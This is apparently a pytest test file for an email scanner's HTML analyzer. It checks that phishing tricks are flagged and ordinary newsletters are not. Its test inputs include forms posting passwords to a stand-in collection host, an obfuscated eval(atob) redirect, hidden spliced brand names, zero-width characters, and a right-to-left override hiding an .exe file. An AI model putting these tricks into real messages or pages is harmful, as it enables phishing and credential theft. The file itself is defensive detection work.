"""HTML tricks: hidden and spliced text, invisible characters, forms, script, self-redirects, CSS."""

from __future__ import annotations

import pytest

from linkmsg import html_message, symbols, text_message


def page(body: str, head: str = "") -> str:
    return f"<html><head>{head}</head><body>{body}</body></html>"


@pytest.mark.parametrize("html, symbol", [
    (page('<p>Your Pay<span style="font-size:0">qz</span>Pal acc<b style="display:none">x</b>ount</p>'),
     "HTML_HIDDEN_TEXT_INWORD"),
    (page("".join(f'<div style="display:none">salad {i}</div>' for i in range(12)) + "<p>Hi</p>"),
     "HTML_HIDDEN_TEXT_MANY"),
    (page('<p>Hello</p><div style="display:none">preview line</div>'), "HTML_HIDDEN_TEXT"),
    (page('<form action="https://collect.example/p" method="post">Email <input name="email">'
          'Password <input type="password" name="pw"></form>'), "HTML_FORM_PASSWORD"),
    (page('<form action="https://collect.example/p" method="post"><input name="username"></form>'),
     "HTML_FORM_CREDENTIAL"),
    (page('<form action="https://collect.example/p" method="post"><input name="comment"></form>'),
     "HTML_FORM_EXTERNAL"),
    (page("<p>x</p><script>eval(atob('ZG9jdW1lbnQubG9jYXRpb249Jy8vZXZpbCc='))</script>"), "HTML_SCRIPT_OBFUSCATED"),
    (page("<p>x</p><script>window.location.href='https://land.example/'</script>"), "HTML_SCRIPT_REDIRECT"),
    (page('<p>x</p><img src="a.png" onerror="alert(1)">'), "HTML_SCRIPT"),
    (page("<p>Loading…</p>", '<meta http-equiv="refresh" content="0;url=https://land.example/">'),
     "HTML_META_REFRESH"),
    (page('<iframe src="data:text/html;base64,PGZvcm0+PC9mb3JtPg=="></iframe>'), "HTML_EMBEDDED_HTML"),
    (page('<iframe srcdoc="&lt;form&gt;&lt;/form&gt;"></iframe>'), "HTML_EMBEDDED_HTML"),
    (page('<p class="n">Call</p>', '<style>.n::after { content: " +1 800 555 0100 now" }</style>'),
     "HTML_CSS_INJECTED_TEXT"),
    (page('<p style="unicode-bidi:bidi-override;direction:rtl">lanigiro</p>'), "HTML_CSS_REORDER"),
    (page('<a href="https://land.example/"><img src="https://img.example/whole-letter.png"></a>'),
     "HTML_IMAGE_ONLY"),
    (page("<p>Micro\u200bsoft acc\u200bount sus\u200dpended</p>"), "HTML_ZERO_WIDTH"),
    (page("<p>Invoice \u202efdp.exe</p>"), "HTML_BIDI_OVERRIDE"),
])
def test_trick_fires(engine, html: str, symbol: str) -> None:
    assert symbol in symbols(engine, html_message(html))


def test_zero_width_in_plain_text_and_subject(engine) -> None:
    raw = text_message("Your Net\u200bflix pay\u200bment failed.", subject="Acc\u200bount on hold")
    assert "HTML_ZERO_WIDTH" in symbols(engine, raw)


@pytest.mark.parametrize("html", [
    page("<p>Plain newsletter with <b>bold</b> and <a href='https://shop.example/a'>a link</a>.</p>"),
    # a search box, as old newsletters carried: GET, one query field
    page('<form action="https://search.example/find" method="get"><input name="q"><input type="submit"></form>'
         "<p>Weekly news with plenty of words so the text is not image-only.</p>"),
    # joiners that belong to the script (Persian ZWNJ) and emoji sequences
    page("<p>\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \U0001F468\u200d\U0001F469\u200d\U0001F467</p>"),
    # right-to-left text uses embeddings, not overrides
    page("<p dir='rtl'>\u202b\u05e9\u05dc\u05d5\u05dd\u202c</p>"),
    page("<script>document.write('<table>')</script><p>Old-style ad banner and text.</p>"),
])
def test_ordinary_html_is_quiet(engine, html: str) -> None:
    found = symbols(engine, html_message(html))
    noisy = found & {"HTML_HIDDEN_TEXT_INWORD", "HTML_HIDDEN_TEXT_MANY", "HTML_FORM", "HTML_FORM_PASSWORD",
                     "HTML_FORM_CREDENTIAL", "HTML_FORM_EXTERNAL", "HTML_SCRIPT_OBFUSCATED", "HTML_SCRIPT_REDIRECT",
                     "HTML_META_REFRESH", "HTML_EMBEDDED_HTML", "HTML_ZERO_WIDTH", "HTML_BIDI_OVERRIDE",
                     "HTML_IMAGE_ONLY", "HTML_CSS_REORDER", "HTML_CSS_INJECTED_TEXT"}
    assert not noisy


def test_one_parse_is_shared() -> None:
    from mailwarden.engine import Engine
    from mailwarden.message import Message

    eng = Engine(analyzers=["html", "links"])
    raw = html_message(page('<p>Hi <a href="https://land.example/">there</a></p>'))
    verdict = eng.scan(raw)
    assert verdict.urls == ["https://land.example/"]
    msg = Message.parse(raw)
    from mailwarden.htmltext import html_document

    assert html_document(msg.html) is html_document(msg.html)
    assert "Hi" in msg.visible_text
